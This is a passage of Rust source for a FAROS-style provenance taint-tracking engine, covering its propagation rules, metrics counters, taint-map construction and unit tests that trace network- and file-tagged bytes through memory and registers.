            ("addr_deps", self.addr_deps.to_json_value()),
        ])
    }
}

/// Registered ids of the engine's counters (see [`TaintEngine::metrics`]).
#[derive(Debug, Clone, Copy)]
struct TaintCounters {
    copies: CounterId,
    unions: CounterId,
    deletes: CounterId,
    labels: CounterId,
    addr_deps: CounterId,
    /// Gauge: interned provenance lists, refreshed at snapshot time.
    interner_lists: CounterId,
    /// Gauge: tainted shadow-memory bytes, refreshed at snapshot time.
    shadow_tainted_bytes: CounterId,
    /// Zero-taint fast path hit/miss pair (`taint.fastpath.*`).
    fastpath: FastPath,
}

impl TaintCounters {
    fn register(m: &mut MetricsRegistry) -> TaintCounters {
        TaintCounters {
            copies: m.counter("taint.copies"),
            unions: m.counter("taint.unions"),
            deletes: m.counter("taint.deletes"),
            labels: m.counter("taint.labels"),
            addr_deps: m.counter("taint.addr_deps"),
            interner_lists: m.counter("taint.interner_lists"),
            shadow_tainted_bytes: m.counter("taint.shadow_tainted_bytes"),
            fastpath: FastPath::register(m, "taint.fastpath"),
        }
    }
}

/// One contiguous run of guest physical bytes sharing the same provenance
/// list — the unit of the analyst-facing *taint map*.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TaintedRegion {
    /// First physical address of the run.
    pub phys: u32,
    /// Length in bytes.
    pub len: u32,
    /// The shared provenance list.
    pub list: ListId,
}

/// The provenance-DIFT engine.
///
/// # Examples
///
/// ```
/// use faros_taint::engine::{PropagationMode, TaintEngine};
/// use faros_taint::shadow::ShadowAddr;
/// use faros_taint::tag::NetflowTag;
///
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let mut engine = TaintEngine::new(PropagationMode::direct_only());
/// let nf = engine.tables_mut().intern_netflow(NetflowTag {
///     src_ip: [10, 0, 0, 1], src_port: 4444,
///     dst_ip: [10, 0, 0, 2], dst_port: 80,
/// })?;
/// engine.label_fresh(ShadowAddr::Mem(0x100), nf);
/// engine.copy(ShadowAddr::Mem(0x200), ShadowAddr::Mem(0x100), 1);
/// assert!(engine.prov_tags(ShadowAddr::Mem(0x200)).contains(&nf));
/// # Ok(())
/// # }
/// ```
#[derive(Debug)]
pub struct TaintEngine {
    tables: TagTables,
    interner: ProvInterner,
    shadow: ShadowState,
    mode: PropagationMode,
    flags_prov: ListId,
    control_ctx: ListId,
    metrics: MetricsRegistry,
    ctr: TaintCounters,
}

impl TaintEngine {
    /// Creates an engine with the given propagation mode.
    pub fn new(mode: PropagationMode) -> TaintEngine {
        let mut metrics = MetricsRegistry::new();
        let ctr = TaintCounters::register(&mut metrics);
        TaintEngine {
            tables: TagTables::new(),
            interner: ProvInterner::new(),
            shadow: ShadowState::new(),
            mode,
            flags_prov: ListId::EMPTY,
            control_ctx: ListId::EMPTY,
            metrics,
            ctr,
        }
    }

    /// The propagation mode in effect.
    pub fn mode(&self) -> PropagationMode {
        self.mode
    }

    /// The tag payload tables.
    pub fn tables(&self) -> &TagTables {
        &self.tables
    }

    /// Mutable access to the tag payload tables (for interning new tags).
    pub fn tables_mut(&mut self) -> &mut TagTables {
        &mut self.tables
    }

    /// The provenance-list interner.
    pub fn interner(&self) -> &ProvInterner {
        &self.interner
    }

    /// The raw shadow state.
    pub fn shadow(&self) -> &ShadowState {
        &self.shadow
    }

    /// Mutable access to the raw shadow state (context-switch register
    /// save/restore).
    pub fn shadow_mut(&mut self) -> &mut ShadowState {
        &mut self.shadow
    }

    /// Propagation statistics so far (a read-out of the `taint.*` counters).
    pub fn stats(&self) -> TaintStats {
        TaintStats {
            copies: self.metrics.get(self.ctr.copies),
            unions: self.metrics.get(self.ctr.unions),
            deletes: self.metrics.get(self.ctr.deletes),
            labels: self.metrics.get(self.ctr.labels),
            addr_deps: self.metrics.get(self.ctr.addr_deps),
        }
    }

    /// The engine's metrics registry.
    pub fn metrics(&self) -> &MetricsRegistry {
        &self.metrics
    }

    /// Mutable access to the registry, so co-resident components (e.g. the
    /// FAROS policy layer) can register their own counters alongside the
    /// engine's and share one snapshot.
    pub fn metrics_mut(&mut self) -> &mut MetricsRegistry {
        &mut self.metrics
    }

    /// Snapshots the registry, first refreshing the gauges
    /// (`taint.interner_lists`, `taint.shadow_tainted_bytes`) that track
    /// current sizes rather than monotone event counts.
    pub fn metrics_snapshot(&mut self) -> MetricsSnapshot {
        self.metrics.set(self.ctr.interner_lists, self.interner.len() as u64);
        self.metrics
            .set(self.ctr.shadow_tainted_bytes, self.shadow.tainted_mem_bytes() as u64);
        self.metrics.snapshot()
    }

    // --- taint sources ---

    /// Labels one shadow byte with a fresh single-tag list, replacing any
    /// existing provenance (a taint *source*, e.g. a network DMA byte).
    pub fn label_fresh(&mut self, addr: ShadowAddr, tag: ProvTag) {
        self.metrics.inc(self.ctr.labels);
        let id = self.interner.append(ListId::EMPTY, tag);
        self.shadow.set(addr, id);
    }

    /// Clamps a `[phys, phys + len)` byte range to the end of the physical
    /// address space. The helpers below used to `wrapping_add`, so a range
    /// ending past `u32::MAX` silently wrapped and tainted low memory.
    fn clamp_range(phys: u32, len: usize) -> usize {
        len.min((u32::MAX - phys) as usize + 1)
    }

    /// Labels `len` consecutive physical bytes with a fresh single-tag list.
    /// A range extending past the top of the physical address space is
    /// clamped at `u32::MAX` (it never wraps to low memory).
    pub fn label_range_fresh(&mut self, phys: u32, len: usize, tag: ProvTag) {
        self.label_range_fresh_tags(phys, len, &[tag]);
    }

    /// Labels `len` consecutive physical bytes with a fresh list holding
    /// `tags` (oldest first), replacing any existing provenance. Equivalent
    /// to a fresh single-tag label followed by per-byte appends of the
    /// remaining tags — e.g. a source tag plus the accessing process's tag,
    /// the FAROS labeling rule — but builds the interned list once and
    /// writes the shadow range in one bulk fill.
    pub fn label_range_fresh_tags(&mut self, phys: u32, len: usize, tags: &[ProvTag]) {
        let len = Self::clamp_range(phys, len);
        let mut id = ListId::EMPTY;
        for &t in tags {
            id = self.interner.append(id, t);
        }
        self.metrics.add(self.ctr.labels, (len * tags.len()) as u64);
        self.shadow.fill_mem_range(phys, len, id);
    }

    /// Appends `tag` at the head of one byte's provenance list (e.g. the
    /// FAROS rule "if a process accesses a byte in memory, add a process tag
    /// into the head of that byte's provenance list").
    pub fn append_tag(&mut self, addr: ShadowAddr, tag: ProvTag) {
        self.metrics.inc(self.ctr.labels);
        let cur = self.shadow.get(addr);
        let new = self.interner.append(cur, tag);
        self.shadow.set(addr, new);
    }

    /// Appends `tag` to `len` consecutive physical bytes. Like
    /// [`TaintEngine::label_range_fresh`], the range is clamped at
    /// `u32::MAX` rather than wrapping into low memory.
    /// Runs of bytes sharing one provenance list (the overwhelmingly common
    /// case — a freshly-labeled buffer) are coalesced: one interner append
    /// and one bulk shadow fill per run, instead of both per byte. The
    /// interner memoizes `append`, so the resulting list ids are identical
    /// to the per-byte loop's.
    pub fn append_tag_range(&mut self, phys: u32, len: usize, tag: ProvTag) {
        let len = Self::clamp_range(phys, len);
        self.metrics.add(self.ctr.labels, len as u64);
        for (start, run_len, cur) in self.shadow.mem_runs(phys, len) {
            let new = self.interner.append(cur, tag);
            self.shadow.fill_mem_range(start, run_len, new);
        }
    }

    // --- queries ---

    /// The provenance list id of a shadow byte.
    #[inline]
    pub fn prov_id(&self, addr: ShadowAddr) -> ListId {
        self.shadow.get(addr)
    }

    /// The provenance tags of a shadow byte, oldest first.
    pub fn prov_tags(&self, addr: ShadowAddr) -> &[ProvTag] {
        self.interner.tags(self.shadow.get(addr))
    }

    /// Returns `true` if the byte carries any tag of `kind`.
    pub fn has_kind(&self, addr: ShadowAddr, kind: TagKind) -> bool {
        self.interner.contains_kind(self.shadow.get(addr), kind)
    }

    /// Unions two interned lists without touching shadow state (used by
    /// detectors aggregating provenance across an instruction's code bytes).
    pub fn union_lists(&mut self, a: ListId, b: ListId) -> ListId {
        self.interner.union(a, b)
    }

    /// Renders a provenance list in the paper's Table II style:
    /// `NetFlow: {...} ->Process: a.exe ->Process: b.exe`.
    pub fn display_list(&self, id: ListId) -> String {
        let tags = self.interner.tags(id);
        if tags.is_empty() {
            return "<untainted>".to_string();
        }
        tags.iter()
            .map(|&t| self.tables.display_tag(t))
            .collect::<Vec<_>>()
            .join(" ->")
    }

    // --- Table I propagation rules ---

    /// Returns `true` when the zero-taint fast path applies: no shadow byte
    /// anywhere (memory or registers) is tainted and no control-dependency
    /// context is open, so `copy`/`union`/`delete`/`addr_dep` provably
    /// cannot change shadow state. Replay-side hook adapters use this to
    /// skip per-byte work entirely while the whole system is still clean
    /// (before the first `label_fresh`).
    #[inline]
    pub fn propagation_is_noop(&self) -> bool {
        self.shadow.is_clean() && self.control_ctx.is_empty()
    }

    /// Returns `true` when a whole block's propagation calls may be elided
    /// and replayed through [`TaintEngine::apply_clean_flows`]. This is
    /// [`TaintEngine::propagation_is_noop`] plus an empty flags provenance:
    /// with clean shadow and no recorded flags provenance, nothing a block
    /// does (including `enter_branch_scope` at its terminating branch) can
    /// change shadow state, open a non-empty control context, or alter what
    /// any elided propagation call would have computed.
    #[inline]
    pub fn block_flows_elidable(&self) -> bool {
        self.propagation_is_noop() && self.flags_prov.is_empty()
    }

    /// Replays the counter side effects of a block's worth of elided
    /// propagation calls in O(1): the caller proved (via
    /// [`TaintEngine::block_flows_elidable`] staying true for the whole
    /// block) that every call was a fast-path no-op, so only the metrics
    /// move. The parameters are mode-independent sums over the block:
    ///
    /// * `copy_bytes` / `delete_bytes` — total bytes of elided copies and
    ///   deletes (these counters count bytes);
    /// * `union_ops` — elided `union_into` calls (counted per call);
    /// * `addr_dep_ops` — elided `addr_dep` / `addr_dep_bytes` calls; the
    ///   engine applies its own mode split (each one also unions and probes
    ///   the fast path only when address dependencies are propagated);
    /// * `fastpath_probes` — fast-path decisions of the copy/union/delete
    ///   calls themselves (one per call), excluding address deps.
    pub fn apply_clean_flows(
        &mut self,
        copy_bytes: u64,
        union_ops: u64,
        delete_bytes: u64,
        addr_dep_ops: u64,
        fastpath_probes: u64,
    ) {
        debug_assert!(self.block_flows_elidable());
        self.metrics.add(self.ctr.copies, copy_bytes);
        self.metrics.add(self.ctr.deletes, delete_bytes);
        self.metrics.add(self.ctr.addr_deps, addr_dep_ops);
        let (unions, probes) = if self.mode.address_deps {
            (union_ops + addr_dep_ops, fastpath_probes + addr_dep_ops)
        } else {
            (union_ops, fastpath_probes)
        };
        self.metrics.add(self.ctr.unions, unions);
        self.ctr.fastpath.hit_n(&mut self.metrics, probes);
    }

    /// Counts one fast-path decision; returns `true` on a hit (skip).
    #[inline]
    fn fast_path(&mut self) -> bool {
        if self.propagation_is_noop() {
            self.ctr.fastpath.hit(&mut self.metrics);
            true
        } else {
            self.ctr.fastpath.miss(&mut self.metrics);
            false
        }
    }

    fn control_adjust(&mut self, id: ListId) -> ListId {
        if self.mode.control_deps && !self.control_ctx.is_empty() {
            self.interner.union(id, self.control_ctx)
        } else {
            id
        }
    }

    /// Union of all source bytes' lists (shared by `union_into`,
    /// `addr_dep_bytes` and `note_flags`).
    ///
    /// A source range that runs past a register's last byte contributes
    /// only its in-range bytes: reading "past" a register yields no
    /// provenance. (The old `offset` clamp silently re-read byte 3 for each
    /// out-of-range index — the aliasing bug.)
    fn union_srcs(&mut self, srcs: &[(ShadowAddr, u8)]) -> ListId {
        let mut acc = ListId::EMPTY;
        for &(src, len) in srcs {
            for i in 0..len {
                let Some(byte) = src.checked_offset(i) else { break };
                let id = self.shadow.get(byte);
                acc = self.interner.union(acc, id);
            }
        }
        acc
    }

    /// `copy(a, b)`: `prov(a) <- prov(b)`, byte-wise for `len` bytes.
    ///
    /// Register ranges are bounds-checked per byte: a destination byte past
    /// the register's end is skipped (there is no such shadow cell), and a
    /// source byte past the end reads as untainted — matching the machine,
    /// where no data actually moves for those bytes.
    pub fn copy(&mut self, dst: ShadowAddr, src: ShadowAddr, len: u8) {
        self.metrics.add(self.ctr.copies, len as u64);
        if self.fast_path() {
            return;
        }
        for i in 0..len {
            let Some(dst_byte) = dst.checked_offset(i) else { break };
            let id = match src.checked_offset(i) {
                Some(src_byte) => self.shadow.get(src_byte),
                None => ListId::EMPTY,
            };
            let id = self.control_adjust(id);
            self.shadow.set(dst_byte, id);
        }
    }

    /// Batched load propagation: `prov(reg[i]) <- prov(phys[i])` for each
    /// translated physical byte of a memory read. The bytes need not be
    /// physically contiguous — a page-crossing access lands each byte on
    /// its own frame.
    pub fn copy_mem_to_reg(&mut self, reg_index: u8, phys: &[u32]) {
        self.metrics.add(self.ctr.copies, phys.len() as u64);
        if self.fast_path() {
            return;
        }
        for (i, &p) in phys.iter().enumerate() {
            let id = self.shadow.get(ShadowAddr::Mem(p));
            let id = self.control_adjust(id);
            self.shadow.set(ShadowAddr::Reg { index: reg_index, off: i as u8 }, id);
        }
    }

    /// Batched store propagation: `prov(phys[i]) <- prov(reg[i])` for each
    /// translated physical byte of a memory write (page-crossing safe).
    pub fn copy_reg_to_mem(&mut self, phys: &[u32], reg_index: u8) {
        self.metrics.add(self.ctr.copies, phys.len() as u64);
        if self.fast_path() {
            return;
        }
        for (i, &p) in phys.iter().enumerate() {
            let id = self.shadow.get(ShadowAddr::Reg { index: reg_index, off: i as u8 });
            let id = self.control_adjust(id);
            self.shadow.set(ShadowAddr::Mem(p), id);
        }
    }

    /// `union(a, b, c)`: every destination byte receives the union of all
    /// source bytes' lists (unioned with its own if `keep_dst`).
    pub fn union_into(
        &mut self,
        dst: ShadowAddr,
        dst_len: u8,
        srcs: &[(ShadowAddr, u8)],
        keep_dst: bool,
    ) {
        self.metrics.inc(self.ctr.unions);
        if self.fast_path() {
            return;
        }
        let acc = self.union_srcs(srcs);
        for i in 0..dst_len {
            let Some(byte_dst) = dst.checked_offset(i) else { break };
            let merged = if keep_dst {
                let cur = self.shadow.get(byte_dst);
                self.interner.union(cur, acc)
            } else {
                acc
            };
            let merged = self.control_adjust(merged);
            self.shadow.set(byte_dst, merged);
        }
    }

    /// `delete(a)`: `prov(a) <- ∅` for `len` bytes (immediates, `xor r, r`).
    ///
    /// Under the conservative control-dependency mode a "delete" inside a
    /// tainted branch still leaks the branch condition, so the control
    /// context is written instead of the empty list — this is precisely the
    /// bit-copy channel of the paper's Fig. 2.
    pub fn delete(&mut self, dst: ShadowAddr, len: u8) {
        self.metrics.add(self.ctr.deletes, len as u64);
        if self.fast_path() {
            return;
        }
        for i in 0..len {
            let Some(dst_byte) = dst.checked_offset(i) else { break };
            let id = self.control_adjust(ListId::EMPTY);
            self.shadow.set(dst_byte, id);
        }
    }

    /// Range `delete`: `prov(phys + i) <- ∅` for `len` consecutive physical
    /// bytes, clamped at the top of the address space. Same control-context
    /// semantics as [`TaintEngine::delete`], but one bulk shadow fill for
    /// the whole range — this is the kernel-write path (image loads, guest
    /// I/O), which clears tens of kilobytes per replay.
    pub fn delete_range(&mut self, phys: u32, len: usize) {
        let len = Self::clamp_range(phys, len);
        self.metrics.add(self.ctr.deletes, len as u64);
        if self.fast_path() {
            return;
        }
        let id = self.control_adjust(ListId::EMPTY);
        self.shadow.fill_mem_range(phys, len, id);
    }

    /// Batched `delete` over translated physical bytes (page-crossing
    /// safe): `prov(phys[i]) <- ∅`.
    pub fn delete_mem(&mut self, phys: &[u32]) {
        self.metrics.add(self.ctr.deletes, phys.len() as u64);
        if self.fast_path() {
            return;
        }
        for &p in phys {
            let id = self.control_adjust(ListId::EMPTY);
            self.shadow.set(ShadowAddr::Mem(p), id);
        }
    }

    /// An address dependency observed: a value at `dst` was accessed through
    /// an address computed from `srcs`. Propagated only when
    /// [`PropagationMode::address_deps`] is set.
    ///
    /// `dst.offset(i)` must be the i-th affected byte, so a memory `dst`
    /// must be physically contiguous — for a page-crossing memory operand
    /// use [`TaintEngine::addr_dep_bytes`] with the translated per-byte
    /// physical addresses instead.
    pub fn addr_dep(&mut self, dst: ShadowAddr, dst_len: u8, srcs: &[(ShadowAddr, u8)]) {
        self.metrics.inc(self.ctr.addr_deps);
        if self.mode.address_deps {
            self.union_into(dst, dst_len, srcs, true);
        }
    }

    /// Address dependency over translated physical bytes: each byte of the
    /// accessed memory receives the union of the address registers'
    /// provenance, landing on the byte's *own* frame. This is the
    /// page-crossing-correct form of [`TaintEngine::addr_dep`] for memory
    /// destinations: `addr_dep(Mem(phys[0]), w, ..)` would assume the `w`
    /// bytes are contiguous and taint the wrong frame past a page boundary.
    pub fn addr_dep_bytes(&mut self, phys: &[u32], srcs: &[(ShadowAddr, u8)]) {
        self.metrics.inc(self.ctr.addr_deps);
        if !self.mode.address_deps {
            return;
        }
        self.metrics.inc(self.ctr.unions);
        if self.fast_path() {
            return;
        }
        let acc = self.union_srcs(srcs);
        for &p in phys {
            let byte_dst = ShadowAddr::Mem(p);
            let cur = self.shadow.get(byte_dst);
            let merged = self.interner.union(cur, acc);
            let merged = self.control_adjust(merged);
            self.shadow.set(byte_dst, merged);
        }
    }

    // --- control-dependency scaffolding ---

    /// Records the provenance feeding the flags register (called at `cmp` /
    /// `test` when control-dependency tracking is on).
    pub fn note_flags(&mut self, srcs: &[(ShadowAddr, u8)]) {
        if !self.mode.control_deps {
            return;
        }
        self.flags_prov = self.union_srcs(srcs);
    }

    /// Builds the taint map: every tainted physical byte, coalesced into
    /// runs of identical provenance, in address order. This is the
    /// "visibility into how information flows in a live system" view an
    /// analyst browses after a replay. The paged shadow iterates in
    /// ascending address order, so no sort is needed.
    pub fn tainted_regions(&self) -> Vec<TaintedRegion> {
        let mut out: Vec<TaintedRegion> = Vec::new();
        for (addr, list) in self.shadow.iter_mem() {
            match out.last_mut() {
                Some(last)
                    if u64::from(last.phys) + u64::from(last.len) == u64::from(addr)
                        && last.list == list =>
                {
                    last.len += 1;
                }
                _ => out.push(TaintedRegion { phys: addr, len: 1, list }),
            }
        }
        out
    }

    /// Opens a branch scope: subsequent writes are unioned with the taint of
    /// the comparison that decided the branch.
    pub fn enter_branch_scope(&mut self) {
        if self.mode.control_deps {
            self.control_ctx = self.flags_prov;
        }
    }

    /// Closes the current branch scope.
    pub fn exit_branch_scope(&mut self) {
        self.control_ctx = ListId::EMPTY;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tag::NetflowTag;

    fn engine_with_nf(mode: PropagationMode) -> (TaintEngine, ProvTag) {
        let mut e = TaintEngine::new(mode);
        let nf = e
            .tables_mut()
            .intern_netflow(NetflowTag {
                src_ip: [1, 1, 1, 1],
                src_port: 1,
                dst_ip: [2, 2, 2, 2],
                dst_port: 2,
            })
            .unwrap();
        (e, nf)
    }

    #[test]
    fn copy_rule() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.copy(ShadowAddr::Mem(100), ShadowAddr::Mem(0), 1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(100)), &[nf]);
        // Copying an untainted byte clears the destination.
        e.copy(ShadowAddr::Mem(100), ShadowAddr::Mem(50), 1);
        assert!(e.prov_tags(ShadowAddr::Mem(100)).is_empty());
    }

    #[test]
    fn union_rule_merges_sources() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let file = e.tables_mut().intern_file("x.bin", 1).unwrap();
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.label_fresh(ShadowAddr::Mem(1), file);
        e.union_into(
            ShadowAddr::Mem(10),
            1,
            &[(ShadowAddr::Mem(0), 1), (ShadowAddr::Mem(1), 1)],
            false,
        );
        let tags = e.prov_tags(ShadowAddr::Mem(10));
        assert!(tags.contains(&nf) && tags.contains(&file));
    }

    #[test]
    fn union_keep_dst_preserves_existing() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let file = e.tables_mut().intern_file("x.bin", 1).unwrap();
        e.label_fresh(ShadowAddr::Mem(10), file);
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.union_into(ShadowAddr::Mem(10), 1, &[(ShadowAddr::Mem(0), 1)], true);
        let tags = e.prov_tags(ShadowAddr::Mem(10));
        assert_eq!(tags, &[file, nf], "dst chronology first, then source");
    }

    #[test]
    fn delete_rule() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.delete(ShadowAddr::Mem(0), 1);
        assert!(e.prov_tags(ShadowAddr::Mem(0)).is_empty());
        assert_eq!(e.shadow().tainted_mem_bytes(), 0);
    }

    #[test]
    fn address_deps_off_by_default() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Reg { index: 2, off: 0 }, nf);
        e.addr_dep(ShadowAddr::Mem(10), 1, &[(ShadowAddr::Reg { index: 2, off: 0 }, 4)]);
        assert!(e.prov_tags(ShadowAddr::Mem(10)).is_empty());
        assert_eq!(e.stats().addr_deps, 1);
    }

    #[test]
    fn address_deps_propagate_when_enabled() {
        let (mut e, nf) = engine_with_nf(PropagationMode::with_address_deps());
        e.label_fresh(ShadowAddr::Reg { index: 2, off: 0 }, nf);
        e.addr_dep(ShadowAddr::Mem(10), 1, &[(ShadowAddr::Reg { index: 2, off: 0 }, 4)]);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(10)), &[nf]);
    }

    #[test]
    fn control_deps_taint_branch_scoped_writes() {
        let (mut e, nf) = engine_with_nf(PropagationMode::conservative());
        e.label_fresh(ShadowAddr::Reg { index: 0, off: 0 }, nf);
        // cmp eax, 1 — flags now carry eax's provenance.
        e.note_flags(&[(ShadowAddr::Reg { index: 0, off: 0 }, 4)]);
        e.enter_branch_scope();
        // A constant write inside the branch still picks up the taint
        // (paper Fig. 2: the bit-copy loop).
        e.delete(ShadowAddr::Mem(50), 1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(50)), &[nf]);
        e.exit_branch_scope();
        e.delete(ShadowAddr::Mem(50), 1);
        assert!(e.prov_tags(ShadowAddr::Mem(50)).is_empty());
    }

    #[test]
    fn control_deps_ignored_when_disabled() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Reg { index: 0, off: 0 }, nf);
        e.note_flags(&[(ShadowAddr::Reg { index: 0, off: 0 }, 4)]);
        e.enter_branch_scope();
        e.delete(ShadowAddr::Mem(50), 1);
        assert!(
            e.prov_tags(ShadowAddr::Mem(50)).is_empty(),
            "FAROS does not propagate control dependencies"
        );
    }

    #[test]
    fn append_tag_builds_chronology() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let p1 = e.tables_mut().intern_process(0x1000, "a.exe").unwrap();
        let p2 = e.tables_mut().intern_process(0x2000, "b.exe").unwrap();
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.append_tag(ShadowAddr::Mem(0), p1);
        e.append_tag(ShadowAddr::Mem(0), p1); // duplicate head: no-op
        e.append_tag(ShadowAddr::Mem(0), p2);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(0)), &[nf, p1, p2]);
    }

    #[test]
    fn display_list_matches_paper_format() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let p1 = e.tables_mut().intern_process(0x1000, "inject_client.exe").unwrap();
        let p2 = e.tables_mut().intern_process(0x2000, "notepad.exe").unwrap();
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.append_tag(ShadowAddr::Mem(0), p1);
        e.append_tag(ShadowAddr::Mem(0), p2);
        let s = e.display_list(e.prov_id(ShadowAddr::Mem(0)));
        assert_eq!(
            s,
            "NetFlow: {src ip,port: 1.1.1.1:1, dest ip,port: 2.2.2.2:2} \
             ->Process: inject_client.exe ->Process: notepad.exe"
        );
        assert_eq!(e.display_list(ListId::EMPTY), "<untainted>");
    }

    #[test]
    fn label_range_and_stats() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_range_fresh(0x100, 16, nf);
        assert_eq!(e.shadow().tainted_mem_bytes(), 16);
        assert_eq!(e.stats().labels, 16);
        for i in 0..16 {
            assert!(e.has_kind(ShadowAddr::Mem(0x100 + i), TagKind::Netflow));
        }
    }

    #[test]
    fn tainted_regions_coalesce_by_provenance() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let file = e.tables_mut().intern_file("f", 1).unwrap();
        e.label_range_fresh(0x100, 8, nf);
        e.label_range_fresh(0x108, 4, file); // adjacent, different list
        e.label_fresh(ShadowAddr::Mem(0x200), nf); // gap
        let regions = e.tainted_regions();
        assert_eq!(regions.len(), 3);
        assert_eq!((regions[0].phys, regions[0].len), (0x100, 8));
        assert_eq!((regions[1].phys, regions[1].len), (0x108, 4));
        assert_eq!((regions[2].phys, regions[2].len), (0x200, 1));
        assert_eq!(regions[0].list, regions[2].list, "same single-tag list interned once");
        assert_ne!(regions[0].list, regions[1].list);
    }

    #[test]
    fn metrics_snapshot_carries_counters_and_gauges() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_range_fresh(0x100, 8, nf);
        e.copy(ShadowAddr::Mem(0x200), ShadowAddr::Mem(0x100), 4);
        e.union_into(ShadowAddr::Mem(0x300), 1, &[(ShadowAddr::Mem(0x100), 2)], false);
        let snap = e.metrics_snapshot();
        assert_eq!(snap.counter("taint.labels"), Some(8));
        assert_eq!(snap.counter("taint.copies"), Some(4));
        assert_eq!(snap.counter("taint.unions"), Some(1));
        assert_eq!(
            snap.counter("taint.shadow_tainted_bytes"),
            Some(e.shadow().tainted_mem_bytes() as u64)
        );
        assert!(snap.counter("taint.interner_lists").unwrap() > 0);
        // The stats read-out view agrees with the registry.
        assert_eq!(e.stats().copies, 4);
        let json = e.stats().to_json_value().to_compact();
        assert!(json.contains("\"copies\":4"));
    }

    #[test]
    fn multi_byte_copy_is_bytewise() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let file = e.tables_mut().intern_file("f", 1).unwrap();
        e.label_fresh(ShadowAddr::Mem(0), nf);
        e.label_fresh(ShadowAddr::Mem(1), file);
        e.copy(ShadowAddr::Mem(100), ShadowAddr::Mem(0), 2);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(100)), &[nf]);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(101)), &[file]);
    }

    #[test]
    fn zero_taint_fast_path_counts_hits_then_misses() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        assert!(e.propagation_is_noop());
        // All propagation rules skip while the system is clean...
        e.copy(ShadowAddr::Mem(100), ShadowAddr::Mem(0), 4);
        e.delete(ShadowAddr::Mem(100), 4);
        e.union_into(ShadowAddr::Mem(200), 1, &[(ShadowAddr::Mem(0), 4)], false);
        let snap = e.metrics_snapshot();
        assert_eq!(snap.counter("taint.fastpath.hits"), Some(3));
        assert_eq!(snap.counter("taint.fastpath.misses"), Some(0));
        // ...but the work counters advance exactly as on the slow path.
        assert_eq!(e.stats().copies, 4);
        assert_eq!(e.stats().deletes, 4);
        assert_eq!(e.stats().unions, 1);
        // First label flips the predicate; the next op takes the slow path.
        e.label_fresh(ShadowAddr::Mem(0), nf);
        assert!(!e.propagation_is_noop());
        e.copy(ShadowAddr::Mem(100), ShadowAddr::Mem(0), 1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(100)), &[nf]);
        let snap = e.metrics_snapshot();
        assert_eq!(snap.counter("taint.fastpath.misses"), Some(1));
        // Deleting the last tainted byte re-arms the fast path.
        e.delete(ShadowAddr::Mem(0), 1);
        e.delete(ShadowAddr::Mem(100), 1);
        assert!(e.propagation_is_noop());
    }

    #[test]
    fn fast_path_disarmed_by_register_taint() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Reg { index: 0, off: 0 }, nf);
        assert!(!e.propagation_is_noop(), "register taint must disarm the fast path");
        e.copy(ShadowAddr::Mem(0x10), ShadowAddr::Reg { index: 0, off: 0 }, 1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(0x10)), &[nf]);
    }

    #[test]
    fn fast_path_disarmed_by_open_control_context() {
        let (mut e, nf) = engine_with_nf(PropagationMode::conservative());
        e.label_fresh(ShadowAddr::Reg { index: 0, off: 0 }, nf);
        e.note_flags(&[(ShadowAddr::Reg { index: 0, off: 0 }, 4)]);
        e.enter_branch_scope();
        // Clearing the only tainted byte leaves shadow clean, but the open
        // branch scope still forces deletes to write the control context.
        e.delete(ShadowAddr::Reg { index: 0, off: 0 }, 4);
        assert!(!e.propagation_is_noop());
        e.delete(ShadowAddr::Mem(50), 1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(50)), &[nf]);
    }

    #[test]
    fn batched_copies_match_per_byte_semantics() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        let file = e.tables_mut().intern_file("f", 1).unwrap();
        // A 4-byte run crossing a page boundary: 0x1ffe..0x2002.
        let phys = [0x1ffe, 0x1fff, 0x2000, 0x2001];
        e.label_fresh(ShadowAddr::Mem(0x1fff), nf);
        e.label_fresh(ShadowAddr::Mem(0x2001), file);
        e.copy_mem_to_reg(3, &phys);
        assert!(e.prov_tags(ShadowAddr::Reg { index: 3, off: 0 }).is_empty());
        assert_eq!(e.prov_tags(ShadowAddr::Reg { index: 3, off: 1 }), &[nf]);
        assert!(e.prov_tags(ShadowAddr::Reg { index: 3, off: 2 }).is_empty());
        assert_eq!(e.prov_tags(ShadowAddr::Reg { index: 3, off: 3 }), &[file]);
        assert_eq!(e.stats().copies, 4);
        // Store the register back to a different page-crossing run.
        let dst = [0x4ffe, 0x4fff, 0x5000, 0x5001];
        e.copy_reg_to_mem(&dst, 3);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(0x4fff)), &[nf]);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(0x5001)), &[file]);
        assert!(e.prov_tags(ShadowAddr::Mem(0x4ffe)).is_empty());
        // Batched delete clears the run without touching neighbours.
        e.delete_mem(&dst);
